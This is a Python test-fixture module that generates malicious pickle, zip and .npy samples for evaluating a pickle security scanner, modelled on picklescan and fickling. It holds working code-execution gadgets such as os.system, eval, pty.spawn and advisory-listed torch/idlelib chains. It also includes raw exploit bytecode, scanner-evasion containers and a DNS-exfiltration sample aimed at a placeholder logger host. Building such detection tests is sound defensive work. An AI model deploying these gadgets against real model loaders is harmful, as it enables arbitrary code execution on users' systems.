"""Our own versions of two public corpora, rebuilt from their published facts (which callable,
which protocol, which container), with no code taken from them:

- picklescan's test samples (tests/init_data_files.py in mmaitre314/picklescan): each sample
  REDUCEs one callable — eval, os.system, http/requests/aiohttp/socket connections,
  subprocess.run, sys.exit, pickle.loads, runpy._run_code, bdb.Bdb.run, pip.main, inductor's
  compile_file, pydoc.pipepager, partial(torch.load), venv.create, timeit, numpy's runstring, the
  GHSA advisories' gadgets (torch.utils.bottleneck, dynamo guards, collect_env, idlelib, lib2to3,
  cProfile, asyncio's _UnixSubprocessTransport, ctypes, pydoc.locate + methodcaller, pty, f2py),
  io.FileIO, urllib.request.urlopen — at protocols 0, 2, 3 and 4, and in containers: a plain zip
  with data.pkl, a zip with a corrupted name, an object .npy, two concatenated pickles;
- fickling's UNSAFE_IMPORTS (fickling/fickle.py) and its ML list (fickling/analysis.py): one
  pickle per module, REDUCE on a callable of that module.

`samples()` yields `(file name, bytes, canonical global to report)`; every sample is malicious."""

import struct

from pickleasm import Call, G, Inst, Raw, dumps, ops
from writers import zip_bytes

P = "__import__('os').system('id')"

# (file stem, module as pickled, name, args, protocol)
PICKLESCAN = [
    ("malicious1", "builtins", "eval", ("print('456')",), 4),
    ("malicious2", "posix", "system", ("ls -la",), 4),
    ("malicious3", "http.client", "HTTPSConnection", ("github.com",), 0),
    ("malicious4", "requests.api", "get", ("https://github.com",), 4),
    ("malicious5", "aiohttp.client", "ClientSession", (), 4),
    ("malicious7", "socket", "create_connection", (("github.com", 80),), 4),
    ("malicious8", "subprocess", "run", (["ls", "-l"],), 4),
    ("malicious9", "sys", "exit", (0,), 4),
    ("malicious13a", "pickle", "loads", ("I12345\n.",), 0),
    ("malicious13b", "_pickle", "loads", (b"I12345\n.",), 4),
    ("malicious14", "runpy", "_run_code", ("print('456')",), 4),
    ("malicious16", "pip", "main", (["install", "some_malicious_package"],), 0),
    ("malicious17", "torch._inductor.codecache", "compile_file", ("", "", ["sh", "-c", "id"]), 4),
    ("malicious18", "pydoc", "pipepager", ("", "id"), 4),
    ("malicious20", "venv", "create", ("venv", False, False, True, False, "$(id)"), 4),
    ("malicious21", "timeit", "timeit", ("", "import os; os.system('id')"), 4),
    ("malicious22", "numpy.testing._private.utils", "runstring", ("import os", {}), 4),
    ("GHSA-4r9r-ch6f-vxmx", "torch.utils.bottleneck.__main__", "run_cprofile", (P, {}), 4),
    ("GHSA-86cj-95qr-2p4f", "torch._dynamo.guards", "GuardBuilder.get", ({}, P), 4),
    ("GHSA-f4x7-rfwp-v3xw", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ({}, P, []), 4),
    ("GHSA-f745-w6jp-hpxx", "torch.utils.collect_env", "run", (P,), 4),
    ("GHSA-h3qp-7fh3-f8h4", "torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b""), 4),
    ("GHSA-vr7h-p6mm-wpmh", "torch.jit.unsupported_tensor_ops", "execWrapper", (P, {}, {}), 4),
    ("GHSA-vv6j-3g6g-2pvj", "torch.utils._config_module", "ConfigModule.load_config", ({}, b""), 4),
    ("GHSA-5qwp-399c-mjwf", "trace", "Trace.run", ({}, P), 4),
    ("GHSA-g344-hcph-8vgg", "trace", "Trace.runctx", ({}, P, {}, {}), 4),
    ("GHSA-x696-vm39-cp64", "profile", "Profile.run", ({}, P), 4),
    ("GHSA-6vqj-c2q5-j97w", "profile", "Profile.runctx", ({}, P, {}, {}), 4),
    ("GHSA-f54q-57x4-jg88", "lib2to3.pgen2.grammar", "Grammar.loads", ({}, b""), 4),
    ("GHSA-3vg9-h568-4w9m", "idlelib.debugobj", "ObjectTreeItem.SetText", ({}, P), 4),
    ("GHSA-6w4w-5w54-rjvr", "idlelib.autocomplete", "AutoComplete.get_entity", ({}, P), 4),
    ("GHSA-cj3c-v495-4xqh", "code", "InteractiveInterpreter.runcode", ({}, P), 4),
    ("GHSA-8r4j-24qv-fmq9", "idlelib.calltip", "Calltip.fetch_tip", ({}, P), 4),
    ("GHSA-9xph-j2h6-g47v", "idlelib.calltip", "get_entity", (P,), 4),
    ("GHSA-4whj-rm5r-c2v8", "torch.utils.bottleneck.__main__", "run_autograd_prof", (P, {}), 4),
    ("GHSA-xp4f-hrf8-rxw7", "ensurepip", "_run_pip", (P,), 4),
    ("GHSA-p9w7-82w4-7q8m", "lib2to3.pgen2.pgen", "ParserGenerator.make_label", (None, {}, '""+' + P), 4),
    ("GHSA-m869-42cg-3xwr", "idlelib.run", "Executive.runcode", ({}, P), 4),
    ("GHSA-j343-8v2j-ff7w", "idlelib.pyshell", "ModifiedInterpreter.runcommand", ({}, P), 4),
    ("GHSA-3gf5-cxq9-w223", "idlelib.pyshell", "ModifiedInterpreter.runcode", ({}, P), 4),
    ("GHSA-fqq6-7vqf-w3fg", "doctest", "debug_script", (P, True), 4),
    ("GHSA-9w88-8rmg-7g2p", "cProfile", "runctx", (P, None, None), 4),
    ("GHSA-49gj-c84q-6qm9", "cProfile", "run", (P,), 4),
    ("GHSA-q77w-mwjj-7mqx", "asyncio.unix_events", "_UnixSubprocessTransport._start", ({}, "id", True, None, None, None, 0), 4),
    ("GHSA-m273-6v24-x4m4", "distutils.file_util", "write_file", ("pwned.env", ["x"]), 4),
    ("GHSA-4675-36f9-wf6r", "ctypes", "CDLL", (None,), 4),
    ("GHSA-vqmv-47xg-9wpr", "pty", "spawn", (["/bin/sh", "-c", "id"],), 4),
    ("GHSA-r8g5-cgf2-4m4m", "numpy.f2py.crackfortran", "getlincoef", (P, []), 4),
    ("io_FileIO", "_io", "FileIO", ("/etc/hosts", "r"), 4),
    ("urllib_request_urlopen", "urllib.request", "urlopen", ("https://example.invalid",), 4),
    ("logging_FileHandler", "logging", "FileHandler", ("/tmp/x.log",), 4),
]

# One representative callable per module of fickling's unsafe lists.
FICKLING = {
    "__builtin__": "eval", "__builtins__": "exec", "builtins": "compile", "os": "popen", "posix": "execv",
    "nt": "system", "subprocess": "check_call", "sys": "settrace", "pty": "fork", "commands": "getoutput",
    "multiprocessing": "Process", "_posixsubprocess": "fork_exec", "code": "interact", "codeop": "compile_command",
    "runpy": "run_path", "marshal": "loads", "types": "FunctionType", "doctest": "run_docstring_examples",
    "importlib": "__import__", "_frozen_importlib": "_call_with_frames_removed",
    "_frozen_importlib_external": "SourceFileLoader", "_imp": "create_dynamic", "pkgutil": "resolve_name",
    "zipimport": "zipimporter", "gc": "get_referrers", "site": "main", "unittest": "main",
    "inspect": "getsource", "test": "support", "_operator": "attrgetter", "operator": "methodcaller",
    "functools": "reduce", "cProfile": "runctx", "profile": "run", "pdb": "run", "bdb": "Bdb",
    "timeit": "repeat", "trace": "Trace", "socket": "socket", "ssl": "get_server_certificate",
    "httplib": "HTTPConnection", "http": "server", "urllib": "request", "urllib2": "urlopen",
    "requests": "post", "aiohttp": "request", "asyncio": "create_subprocess_shell", "webbrowser": "open_new",
    "smtplib": "SMTP", "imaplib": "IMAP4", "ftplib": "FTP", "poplib": "POP3", "telnetlib": "Telnet",
    "nntplib": "NNTP", "ctypes": "cdll", "_ctypes": "dlopen", "pickle": "load", "_pickle": "Unpickler",
    "dill": "loads", "cloudpickle": "loads", "joblib": "load", "shutil": "copyfile", "tempfile": "mkstemp",
    "filecmp": "cmp", "distutils": "spawn", "pydoc": "locate", "pexpect": "spawn", "venv": "EnvBuilder",
    "ensurepip": "bootstrap", "pip": "main", "idlelib": "run", "lib2to3": "main", "socketserver": "TCPServer",
    "xmlrpc": "client", "signal": "signal", "_signal": "alarm", "threading": "Thread", "_thread": "start_new_thread",
    "atexit": "register", "sqlite3": "connect", "_sqlite3": "connect", "fileinput": "input", "glob": "glob",
    "platform": "popen", "linecache": "getline", "difflib": "restore", "compileall": "compile_dir",
    "py_compile": "compile", "mmap": "mmap", "select": "select", "selectors": "DefaultSelector",
    "torch.hub": "load", "torch._dynamo": "optimize", "torch._inductor": "compile", "torch.jit": "load",
    "torch.compile": "__call__", "numpy.f2py": "compile", "numpy.distutils": "exec_command",
    "torch": "load", "torch.storage": "_load_from_bytes", "torch.utils._config_module": "ConfigModule",
    "torch.distributed.elastic.rendezvous.api": "basichandlers", "_io": "open", "io": "open",
}


def _canon(module, name, proto):
    from torchpath import python3_name

    return python3_name(module, name, proto)


def samples():
    out = []
    for stem, module, name, args, proto in PICKLESCAN:
        args = tuple(a if not (isinstance(a, bytes) and proto < 3) else a.decode() for a in args)
        body = dumps(Call(G(module, name), *args), proto)
        out.append((f"ps-{stem}.pkl", body, _canon(module, name, proto)))
    # Protocol variants of the first two samples, as picklescan tests them.
    for proto in (0, 2, 3):
        out.append((f"ps-malicious1_v{proto}.pkl", dumps(Call(G("__builtin__" if proto < 3 else "builtins", "eval"), "print('456')"), proto), "builtins.eval"))
        out.append((f"ps-malicious2_v{proto}.pkl", dumps(Call(G("posix", "system"), "ls -la"), proto), "posix.system"))
    # Sour Pickles (BlackHat 2011): globals() then compile/eval/getattr chains, protocol 0 with PUT/GET.
    sour = (
        b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'x=1'\nS''\nS'exec'\ntRp101\n0"
        b"c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0g103\n."
    )
    out.append(("ps-malicious0.pkl", sour, "builtins.globals"))
    out.append(("ps-malicious10.pkl", dumps(Inst("__builtin__", "exec", "raise RuntimeError('x')"), 0), "builtins.exec"))
    # Protocol 0 UNICODE/PUT/GET feeding STACK_GLOBAL, no PROTO opcode (CTF 'Safe Pickle').
    ctf = b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vcat flag.txt\ntR."
    out.append(("ps-malicious11.pkl", ctf, "os.system"))
    out.append(("ps-malicious-invalid-bytes.pkl", ctf + b"\n\n\t\t", "os.system"))
    # STRING operands for STACK_GLOBAL.
    out.append(("ps-malicious23.pkl", b"S'os'\nS'system'\n\x93S'ls'\n\x85R.", "os.system"))
    # exec with a BINUNICODE argument (broken_model).
    out.append(("ps-broken_model.pkl", b"cbuiltins\nexec\n(X\x05\x00\x00\x00x = 1tR.", "builtins.exec"))
    # Payload before a memo KeyError / a type confusion: executed before the error.
    ke = b"\x80\x04cos\nsystem\nVid\n\x85R0\x8c\x02os\x94h\x03h\x00\x93K\x42."
    out.append(("ps-keyerror-exploit.pkl", ke, "os.system"))
    out.append(("ps-type-confusion-exploit.pkl", b"\x80\x04cos\nsystem\nVid\n\x85R0J\x2a\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93K\x42.", "os.system"))
    # attrgetter('system')(__import__('os'))('echo') — picklescan's malicious12.
    m12 = Call(Call(Call(G("operator", "attrgetter"), "system"), Call(G("builtins", "__import__"), "os")), "echo pwned")
    out.append(("ps-malicious12.pkl", dumps(m12, 4), "operator.attrgetter"))
    # partial(torch.load, path, weights_only=False)() — malicious19.
    part = Call(Call(G("functools", "partial"), G("torch.serialization", "load"), "other.bin"))
    out.append(("ps-malicious19.pkl", dumps(part, 4), "torch.serialization.load"))
    # methodcaller('system', cmd)(pydoc.locate('os')) — GHSA-84r2-jw7c-4r5q.
    mc = Call(Call(G("operator", "methodcaller"), "system", "echo pwned"), Call(G("pydoc", "locate"), "os"))
    out.append(("ps-GHSA-84r2-jw7c-4r5q.pkl", dumps(mc, 4), "operator.methodcaller"))
    # bdb.Bdb.run with a Bdb instance — malicious15.
    bdb = Call(G("bdb", "Bdb.run"), Call(G("bdb", "Bdb")), "import os")
    out.append(("ps-malicious15a.pkl", dumps(bdb, 2), "bdb.Bdb.run"))
    out.append(("ps-malicious15b.pkl", dumps(bdb, 4), "bdb.Bdb.run"))
    # Two pickles: a benign list, then requests.get — malicious6.
    out.append(("ps-malicious6.pkl", dumps(["a", "b", "c"], 4) + dumps(Call(G("requests.api", "get"), "https://x.invalid"), 4), "requests.api.get"))
    # Containers: a zip whose data.pkl evals, a corrupted-name zip, a wrong extension, object .npy.
    evil = dumps(Call(G("builtins", "eval"), "print('456')"), 4)
    out.append(("ps-malicious1.zip", zip_bytes([("data.pkl", evil)]), "builtins.eval"))
    corrupt = zip_bytes([("data.pkl", evil)]).replace(b"data.pkl", b"datap.kl", 1)
    out.append(("ps-malicious1_central_directory.zip", corrupt, "builtins.eval"))
    out.append(("ps-malicious1_wrong_ext.zip", zip_bytes([("data.txt", evil)]), "builtins.eval"))
    npy_pickle = dumps(Call(G("ssl", "get_server_certificate"), ("x.dns-logger.invalid", 443)), 3)
    out.append(("ps-dns_exfiltration.npy", npy(npy_pickle), "ssl.get_server_certificate"))
    for module, name in FICKLING.items():
        proto = 2 if module in ("__builtin__", "commands", "httplib", "urllib2") else 4
        body = dumps(Call(G(module, name), "x"), proto)
        out.append((f"fk-{module}.pkl", body, _canon(module, name, proto)))
    return out


def npy(pickle_bytes):
    """An object-dtype .npy (format 1.0) whose payload is `pickle_bytes`."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * ((-(10 + len(header) + 1)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickle_bytes


__all__ = ["samples", "npy", "Raw", "ops"]
